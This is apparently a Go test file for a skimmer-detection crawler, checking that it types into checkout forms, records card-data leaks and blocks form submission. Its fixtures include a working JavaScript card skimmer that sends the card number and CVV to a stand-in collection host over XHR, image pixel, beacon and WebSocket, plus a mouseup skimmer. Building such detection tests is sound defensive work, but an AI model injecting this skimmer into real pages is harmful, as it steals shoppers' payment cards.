package crawler

import (
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/websocket"

	skimguard "github.com/skimguard/skimguard"
	"github.com/skimguard/skimguard/carddata"
)

// skimJS is a skimmer that waits for the card typed by a real keyboard
// (trusted events only), then sends it four ways when a field loses focus.
const skimJS = `
(function () {
  var data = {}, keys = 0, sent = false;
  document.addEventListener('keydown', function (e) { if (e.isTrusted) keys++; }, true);
  document.addEventListener('input', function (e) { data[e.target.name || e.target.id] = e.target.value; }, true);
  document.addEventListener('change', function (e) { data[e.target.name || e.target.id] = e.target.value; }, true);
  document.addEventListener('blur', function (e) {
    data[e.target.name || e.target.id] = e.target.value;
    var n = (data.cc_number || '').replace(/\D/g, '');
    if (sent || keys < 16 || n.length < 16 || !data.cvv) return;
    sent = true;
    var payload = btoa(JSON.stringify(data));
    var x = new XMLHttpRequest(); x.open('POST', SKIM + '/gate.php'); x.send(payload);
    new Image().src = SKIM + '/p.gif?d=' + encodeURIComponent(n) + '&t=' + Date.now();
    navigator.sendBeacon(SKIM + '/b', JSON.stringify({c: n}));
    var ws = new WebSocket(SKIM.replace('http', 'ws') + '/ws');
    ws.onopen = function () { ws.send('cc=' + n.replace(/(\d{4})/g, '$1 ').trim()); };
  }, true);
  fetch(SKIM + '/hello?x=1');
})();`

func TestTypingCatchesSkimmer(t *testing.T) {
	c := needBrowser(t)
	var skimHits hits
	skim := http.NewServeMux()
	skim.HandleFunc("/skim.js", func(w http.ResponseWriter, r *http.Request) {
		js(w, "var SKIM = 'http://"+r.Host+"';"+skimJS)
	})
	skim.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		skimHits.add(r.URL.Path, string(body))
		w.Header().Set("Access-Control-Allow-Origin", "*")
	})
	skim.Handle("/ws", websocket.Handler(func(ws *websocket.Conn) {
		ws.SetDeadline(time.Now().Add(30 * time.Second))
		var msg string
		if websocket.Message.Receive(ws, &msg) == nil {
			skimHits.add("/ws", msg)
		}
	}))
	skimSrv := serveOn(t, "127.0.0.3", skim)

	var shop hits
	mux := http.NewServeMux()
	months := ""
	for m := 1; m <= 12; m++ {
		months += fmt.Sprintf(`<option value="%02d">%02d</option>`, m, m)
	}
	mux.HandleFunc("/checkout", func(w http.ResponseWriter, r *http.Request) {
		html(w, `<!doctype html><html><body>
<form id="pay-form" name="payment" action="/order" method="post">
  <input id="cc" name="cc_number" type="tel" placeholder="Card number">
  <select name="exp_month"><option value="">MM</option>`+months+`</select>
  <select name="exp_year"><option value="">YYYY</option><option>2030</option><option>2031</option></select>
  <input name="cvv" type="password">
  <input name="card_holder">
  <input name="decoy_card_number" style="display:none">
  <button id="pay">Place order</button>
</form>
<input id="loose" autocomplete="cc-csc">
<script src="`+skimSrv.URL+`/skim.js"></script>
</body></html>`)
	})
	mux.HandleFunc("/order", func(w http.ResponseWriter, r *http.Request) { shop.add("/order", "") })
	srv := serveOn(t, "127.0.0.1", mux)

	obs := mustScan(t, c, skimguard.Page{Site: "s", Name: "p", URL: srv.URL + "/checkout", Interact: true})
	card := carddata.Test()

	t.Run("typed, and the form was never submitted", func(t *testing.T) {
		if !obs.Typed {
			t.Fatal("Typed = false")
		}
		if n := shop.count("/order"); n != 0 {
			t.Errorf("form submitted %d times", n)
		}
		got := skimHits.values("/gate.php")
		if len(got) != 1 {
			t.Fatalf("skimmer gate got %d posts, want 1 (trusted keys typed into every field)", len(got))
		}
	})
	t.Run("every exfiltration is a leak", func(t *testing.T) {
		where := map[string]skimguard.Leak{}
		for _, l := range obs.Leaks {
			t.Logf("leak %s %s %s %s %v %s by %s", l.Type, l.Where, l.Encoding, l.URL, l.Fields, l.Origin, l.Initiator)
			where[l.Type+"/"+l.Where] = l
			if strings.Contains(l.URL, card.Number) {
				t.Errorf("leak URL not masked: %s", l.URL)
			}
			wantOrigin := skimSrv.URL
			if l.Type == "WebSocket" {
				wantOrigin = strings.Replace(skimSrv.URL, "http:", "ws:", 1)
			}
			if l.Origin != wantOrigin {
				t.Errorf("leak origin %q, want %q", l.Origin, wantOrigin)
			}
		}
		for _, k := range []string{"XHR/body", "Image/url", "Ping/body", "WebSocket/frame"} {
			if _, ok := where[k]; !ok {
				t.Errorf("no %s leak", k)
			}
		}
		x := where["XHR/body"]
		if !slices.Contains(x.Fields, skimguard.FieldNumber) || !slices.Contains(x.Fields, skimguard.FieldCVC) || x.Method != "POST" || x.Initiator != skimSrv.URL+"/skim.js" {
			t.Errorf("XHR leak = %+v", x)
		}
	})
	t.Run("connections by origin, after typing", func(t *testing.T) {
		conn := connTo(obs, skimSrv.URL)
		if conn == nil {
			t.Fatalf("no connection to %s: %+v", skimSrv.URL, obs.Connections)
		}
		for _, typ := range []string{"Fetch", "Image", "Ping", "Script", "XHR"} {
			if !contains(conn.Types, typ) {
				t.Errorf("types %v lack %s", conn.Types, typ)
			}
		}
		if !slices.IsSorted(conn.Types) || !conn.AfterTyping || conn.Count < 5 {
			t.Errorf("connection = %+v", conn)
		}
		ws := connTo(obs, strings.Replace(skimSrv.URL, "http:", "ws:", 1))
		if ws == nil || !slices.Equal(ws.Types, []string{"WebSocket"}) || !contains(ws.Initiators, skimSrv.URL+"/skim.js") {
			t.Errorf("WebSocket connection = %+v", ws)
		}
		if !contains(conn.Initiators, "parser") || !contains(conn.Initiators, skimSrv.URL+"/skim.js") {
			t.Errorf("initiators = %v", conn.Initiators)
		}
		if strings.Contains(conn.Example, "?") {
			t.Errorf("example keeps its query: %s", conn.Example)
		}
		if own := connTo(obs, srv.URL); own == nil || own.AfterTyping {
			t.Errorf("shop connection = %+v", own)
		}
	})
	t.Run("forms and formless inputs", func(t *testing.T) {
		if len(obs.Forms) != 2 {
			t.Fatalf("forms = %+v", obs.Forms)
		}
		f := obs.Forms[0]
		if f.Action != srv.URL+"/order" || f.Method != "POST" || f.ID != "pay-form" || f.Name != "payment" || f.Frame != srv.URL+"/checkout" || f.Formless {
			t.Errorf("form = %+v", f)
		}
		var fields []string
		for _, in := range f.Inputs {
			fields = append(fields, fmt.Sprintf("%s:%s:%v", in.Field, in.Name, in.Visible))
		}
		want := []string{"number:cc_number:true", "expiry:exp_month:true", "expiry:exp_year:true", "cvc:cvv:true", "name:card_holder:true", "number:decoy_card_number:false"}
		if !slices.Equal(fields, want) {
			t.Errorf("inputs = %v, want %v", fields, want)
		}
		l := obs.Forms[1]
		if !l.Formless || len(l.Inputs) != 1 || l.Inputs[0].Field != skimguard.FieldCVC || l.Inputs[0].Autocomplete != "cc-csc" {
			t.Errorf("formless = %+v", l)
		}
	})
}

func TestMouseUpWithoutSubmit(t *testing.T) {
	c := needBrowser(t)
	var h hits
	mux := http.NewServeMux()
	mux.HandleFunc("/checkout", func(w http.ResponseWriter, r *http.Request) {
		html(w, `<!doctype html><html><body>
<form action="/order" method="post">
  <input name="cardnumber" autocomplete="cc-number">
  <input name="expiry" placeholder="MM / YY">
  <input name="cvc">
  <button type="submit" id="pay">Pay</button>
</form>
<script>
var pay = document.getElementById('pay');
pay.addEventListener('mouseover', function () { fetch('/hover'); });
pay.addEventListener('mouseup', function (e) {
  if (!e.isTrusted) return;
  var f = pay.form;
  navigator.sendBeacon('/mu', JSON.stringify({n: f.cardnumber.value, e: f.expiry.value, c: f.cvc.value}));
});
pay.addEventListener('click', function () { fetch('/clicked'); });
pay.form.addEventListener('submit', function () { fetch('/submitted'); });
</script></body></html>`)
	})
	mux.HandleFunc("/", h.bodies)
	srv := serveOn(t, "127.0.0.1", mux)

	obs := mustScan(t, c, skimguard.Page{URL: srv.URL + "/checkout", Interact: true})
	// The mouse may cross the button on its way in or between fields
	// (every crossing is a mouseover); it is released over it once.
	if h.count("/hover") < 1 || h.count("/mu") != 1 {
		t.Errorf("hover %d, mouseup %d: want at least one hover and one mouseup", h.count("/hover"), h.count("/mu"))
	}
	for _, p := range []string{"/clicked", "/submitted", "/order"} {
		if n := h.count(p); n != 0 {
			t.Errorf("%s hit %d times: the pay button was clicked or the form submitted", p, n)
		}
	}
	if v := h.values("/mu"); len(v) == 1 && !strings.Contains(v[0], `"e":"09/31"`) {
		t.Errorf("mouseup skimmer got %s, want the expiry typed as MM/YY", v[0])
	}
	var ping *skimguard.Leak
	for i, l := range obs.Leaks {
		if l.Type == "Ping" {
			ping = &obs.Leaks[i]
		}
	}
	if ping == nil || ping.Where != "body" || !slices.Contains(ping.Fields, skimguard.FieldExpiry) {
		t.Errorf("beacon leak = %+v (all: %+v)", ping, obs.Leaks)
	}
}

func TestNavigationAfterTypingIsCancelled(t *testing.T) {
	c := needBrowser(t)
	var h hits
	mux := http.NewServeMux()
	mux.HandleFunc("/checkout", func(w http.ResponseWriter, r *http.Request) {
		html(w, `<!doctype html><html><body>
<form id="f" action="/order" method="get"><input name="cc-number" autocomplete="cc-number"></form>
<script>
document.querySelector('input').addEventListener('blur', function () { document.getElementById('f').submit(); });
</script></body></html>`)
	})
	mux.HandleFunc("/order", func(w http.ResponseWriter, r *http.Request) { h.add("/order", r.URL.RawQuery) })
	srv := serveOn(t, "127.0.0.1", mux)

	obs := mustScan(t, c, skimguard.Page{URL: srv.URL + "/checkout", Interact: true})
	if n := h.count("/order"); n != 0 {
		t.Errorf("form submitted by a script after typing reached the server %d times", n)
	}
	if obs.FinalURL != srv.URL+"/checkout" {
		t.Errorf("FinalURL = %s: the page navigated away", obs.FinalURL)
	}
	found := false
	for _, l := range obs.Leaks {
		if l.Type == "Document" && l.Where == "url" {
			found = true
		}
	}
	if !found {
		t.Errorf("the cancelled submit carried the card in its URL and is no leak: %+v", obs.Leaks)
	}
}
